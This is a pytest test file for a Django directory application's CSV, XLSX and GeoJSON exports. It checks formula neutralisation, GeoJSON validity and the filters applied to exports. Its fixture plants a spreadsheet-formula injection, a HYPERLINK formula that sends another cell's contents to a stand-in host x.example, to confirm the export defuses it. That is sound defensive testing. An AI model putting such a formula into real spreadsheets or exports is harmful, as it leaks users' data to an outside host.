"""The directory's exports: CSV and XLSX with every spreadsheet formula neutralised
(``lib/spreadsheet.py``), GeoJSON valid (RFC 7946: a FeatureCollection of points,
longitude first), filters applied to the export as to the list."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from yiri.directory import services
from yiri.directory.models import Site, SiteKind

from ..web.helpers import client_for
from .data import Directory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x.example/?"&A2,"clic")'


@pytest.fixture
def directory(cast):
    d = Directory(cast)
    d.evil = services.save_site(cast.coordinator, Site(
        kind=SiteKind.TELECENTRE, name=FORMULA, local_content="@SUM(1+1)", contact_name="-2+3",
        relay_cell=cast.cell))
    return d


def test_the_csv_export_neutralises_formulas(directory):
    response = client_for(directory.cast.worker).get(reverse("directory_export", args=["csv"]))
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][0] == "Nom"
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells and "'@SUM(1+1)" in cells and "'-2+3" in cells
    assert not any(cell.startswith(("=", "@", "+")) for cell in cells)
    assert "Télécentre communautaire de Tanghin" in cells


def test_the_xlsx_export_neutralises_formulas(directory):
    response = client_for(directory.cast.worker).get(reverse("directory_export", args=["xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert "'" + FORMULA in values
    assert not any(v.startswith(("=", "@")) for v in values)


def test_the_geojson_export_is_a_valid_feature_collection_of_placed_sites(directory):
    response = client_for(directory.cast.worker).get(reverse("directory_export", args=["geojson"]))
    assert response["Content-Type"] == "application/geo+json"
    data = json.loads(response.content)
    assert data["type"] == "FeatureCollection"
    names = {f["properties"]["name"] for f in data["features"]}
    assert names == {"Télécentre communautaire de Tanghin", "Action Enfance"}  # the third has no position
    for feature in data["features"]:
        assert feature["type"] == "Feature"
        lon, lat = feature["geometry"]["coordinates"]
        assert feature["geometry"]["type"] == "Point"
        assert -180 <= lon <= 180 and -90 <= lat <= 90
        assert lon < 0 and 9 < lat < 16  # Ouagadougou: longitude first
        assert feature["properties"]["url"].startswith("http")


def test_an_export_keeps_the_filters_of_the_list(directory):
    c = client_for(directory.cast.worker)
    response = c.get(reverse("directory_export", args=["csv"]) + "?kind=organisation")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert [r[0] for r in rows[1:]] == ["Action Enfance"]
    response = c.get(reverse("directory_export", args=["csv"]) + "?service=printing&q=Tanghin")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert [r[0] for r in rows[1:]] == ["Télécentre communautaire de Tanghin"]
